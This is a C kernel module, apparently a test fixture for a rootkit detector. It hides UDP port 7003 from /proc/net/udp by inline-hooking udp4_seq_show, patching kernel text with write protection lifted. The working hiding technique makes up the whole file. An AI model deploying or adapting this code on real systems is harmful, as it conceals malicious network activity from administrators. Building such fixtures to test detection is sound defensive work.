// Test rootkit: hides UDP port 7003 from /proc/net/udp (what netstat -u reads) by
// overwriting the first instruction of udp4_seq_show (its 5-byte ftrace nop) with a
// jump to its own filter: an inline hook, written into kernel text with CR0.WP
// lifted (nfm_rk.h). The filter runs the original from the next instruction on.
#include <linux/module.h>
#include <linux/seq_file.h>
#include <net/sock.h>

#include "nfm_rk.h"

static unsigned char* target;
static unsigned char saved[5];
static int (*original_rest)(struct seq_file*, void*);

static int hooked_udp_show(struct seq_file* seq, void* v) {
  if (v != SEQ_START_TOKEN && ((struct sock*)v)->sk_num == 7003) return 0;
  return original_rest(seq, v);
}

static int __init inline_init(void) {
  static const unsigned char nops[][5] = {{0x0f, 0x1f, 0x44, 0x00, 0x00},
                                          {0x66, 0x66, 0x66, 0x66, 0x90}};
  unsigned char jump[5] = {0xe9};
  s32 rel;
  target = (unsigned char*)nfm_rk_lookup("udp4_seq_show");
  if (!target) return -ENOENT;
  // Only a 5-byte nop can be displaced without relocating it.
  if (memcmp(target, nops[0], 5) != 0 && memcmp(target, nops[1], 5) != 0) {
    pr_info("nfm_rk_inline_hook: udp4_seq_show starts with %5ph, not an ftrace nop\n", target);
    return -EINVAL;
  }
  memcpy(saved, target, 5);
  original_rest = (void*)(target + 5);
  rel = (s32)((long)hooked_udp_show - (long)(target + 5));
  memcpy(jump + 1, &rel, 4);
  nfm_rk_write_text(target, jump, 5);
  pr_info("nfm_rk_inline_hook: udp4_seq_show patched\n");
  return 0;
}

static void __exit inline_exit(void) {
  nfm_rk_write_text(target, saved, 5);
}

module_init(inline_init);
module_exit(inline_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nfm test rootkit: inline hook of udp4_seq_show");
